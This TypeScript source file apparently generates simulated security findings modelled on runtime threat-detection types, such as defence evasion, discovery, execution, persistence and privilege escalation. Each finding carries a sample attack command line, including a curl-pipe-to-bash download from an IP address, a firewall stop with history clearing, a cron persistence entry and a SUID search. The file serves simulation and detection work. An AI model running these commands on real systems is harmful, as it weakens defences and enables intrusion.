import {type JsonObject} from '../../json.js';
import {high, low, medium, type RuntimeType, type Story} from './runtime-type.js';

const shell = {path: '/bin/bash', parents: ['/bin/sh']};

const commanding =
	(
		commandLineExample: string,
		context: JsonObject = {},
		process: Story['process'] = shell,
	): RuntimeType['story'] =>
	() => ({process, context: {...context, commandLineExample}});

/** Types that a command line gives away. */
export const commandTypes: readonly RuntimeType[] = [
	{
		type: 'DefenseEvasion:Runtime/SuspiciousCommand',
		severity: high,
		title: 'A command tried to switch off a defence.',
		did: () => 'ran a command that stops a security service or hides what was done',
		story: commanding('systemctl stop firewalld && history -c', {
			serviceName: 'firewalld',
			shellHistoryFilePath: '/root/.bash_history',
		}),
	},
	{
		type: 'Discovery:Runtime/SuspiciousCommand',
		severity: low,
		title: 'A command looked around in a suspicious way.',
		did: () => 'ran a command that lists users, hosts or permissions',
		story: commanding('cat /etc/passwd; id; uname -a; env', {}, {...shell, user: 'app'}),
	},
	{
		type: 'Execution:Runtime/SuspiciousCommand',
		// AWS: variable.
		severity: medium,
		title: 'A suspicious command was run.',
		did: () => 'ran a command that fetches something and runs it at once',
		story: commanding('curl -fsSL http://198.51.100.23/a.sh | bash'),
	},
	{
		type: 'Execution:Runtime/SuspiciousShellCreated',
		severity: low,
		title: 'A network service started a shell.',
		did: () => 'started a shell, which such a service does not do',
		story: ({subject}) => ({
			process: {path: '/bin/sh', user: 'app'},
			context: {serviceName: subject.entry.path.slice(subject.entry.path.lastIndexOf('/') + 1)},
		}),
	},
	{
		type: 'Execution:Runtime/SuspiciousTool',
		// AWS: variable, by the tool.
		severity: low,
		title: 'A tool was run that attackers use too.',
		did: ({context}) => `is the tool ${String(context?.toolName)}`,
		story: () => ({
			process: {path: '/usr/bin/nmap', parents: ['/bin/bash']},
			context: {
				toolName: 'nmap',
				toolCategory: 'Network Scanner',
				commandLineExample: 'nmap -sT -p 22,3306,5432,6379 10.40.0.0/20',
			},
		}),
	},
	{
		type: 'Persistence:Runtime/SuspiciousCommand',
		severity: medium,
		title: 'A command tried to stay for good.',
		did: () => 'ran a command that makes something start again by itself',
		story: commanding('(crontab -l; echo "*/5 * * * * /tmp/.x/agentd") | crontab -'),
	},
	{
		type: 'PrivilegeEscalation:Runtime/SuspiciousCommand',
		severity: medium,
		title: 'A command tried to gain rights.',
		did: () => 'ran a command that looks for, or uses, a way to more rights',
		story: commanding('find / -perm -4000 -type f 2>/dev/null', {}, {...shell, user: 'app'}),
	},
	{
		type: 'Execution:Runtime/MaliciousFileExecuted.Custom',
		severity: high,
		title: 'A file was run that is on the account’s own list of threats.',
		did: ({context}) =>
			`ran ${String(context?.threatFilePath)}, which is on the account's own list of threats`,
		story: ({random}) => ({
			process: {path: '/var/tmp/.update', parents: ['/bin/sh']},
			context: {threatFilePath: '/var/tmp/.update'},
			evidence: {
				threatIntelligenceDetails: [
					{threatListName: 'company-blocklist', threatNames: ['internal'], threatFileSha256: random.hex(64)},
				],
			},
		}),
	},
];
